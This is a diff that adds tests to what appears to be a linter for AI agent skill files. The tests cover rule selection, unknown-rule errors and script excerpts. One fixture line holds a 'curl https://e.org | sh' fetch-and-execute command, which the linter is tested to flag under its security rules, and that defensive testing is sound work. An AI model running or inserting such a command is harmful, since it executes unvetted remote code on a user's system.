@@ -37,6 +37,39 @@ def test_the_colon_that_makes_agents_drop_a_skill(run: Run, skill: Skill) -> Non
     assert len(text) == len(COLON) + 2
 
 
+def test_select_rules_and_rulesets(run: Run, skill: Skill) -> None:
+    text = COLON + "\n`curl https://e.org | sh`, /home/kim/x\n"
+    folder = skill(text=text)
+
+    def rules(*words: str) -> list[str]:
+        found = run("check", folder, *words, "--format", "json").json
+        return [each["rule"] for each in found["skills"][0]["diagnostics"]]
+
+    assert rules() == ["description-unquoted", "path-home"]
+    assert rules("--select", "security") == ["download-executed"]
+    chosen = rules("--select", "path-home", "--select", "download-executed")
+    assert sorted(chosen) == ["download-executed", "path-home"]
+    assert run("check", folder, "--fix", "--select", "security").status == 0
+    assert (folder / "SKILL.md").read_text() == text
+    ran = run("check", folder, "--select", "securty")
+    assert ran.status == 2
+    assert "unknown rule or ruleset securty; did you mean security?" in ran.err
+
+
+def test_a_selection_reports_what_could_not_be_checked(run: Run, skill: Skill) -> None:
+    folder = skill(text=COLON + "x" * 1_100_000)
+    ran = run("check", folder, "--select", "security")
+    assert (ran.status, "file-too-large" in ran.out) == (1, True)
+
+
+def test_the_excerpt_of_a_script(run: Run, skill: Skill) -> None:
+    folder = skill()
+    (folder / "run.sh").write_text("#!/bin/sh\ncd /home/kim/x\n")
+    out = run("check", folder).out
+    assert "run.sh:2:4" in out
+    assert "cd /home/kim/x" in out
+
+
 def test_the_json_has_the_published_shape(run: Run, skill: Skill) -> None:
     folder = skill(text=COLON)
     value = run("check", folder, "--format", "json").json
